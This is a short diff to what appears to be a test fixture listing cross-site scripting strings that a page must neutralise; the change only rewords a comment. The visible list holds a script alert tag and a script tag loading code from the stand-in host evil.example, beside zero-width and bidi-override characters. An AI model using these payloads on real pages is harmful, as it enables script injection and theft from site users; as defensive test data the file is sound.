@@ -1,7 +1,7 @@
 const zeroWidth = '\u200b';
 const bidiOverride = '\u202e';
 
-/** Texts that have broken into other people's pages, and relatives of them; none may do anything here. */
+/** Known attacks on pages by text, and variants. None may have an effect here. */
 export const attackTexts: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
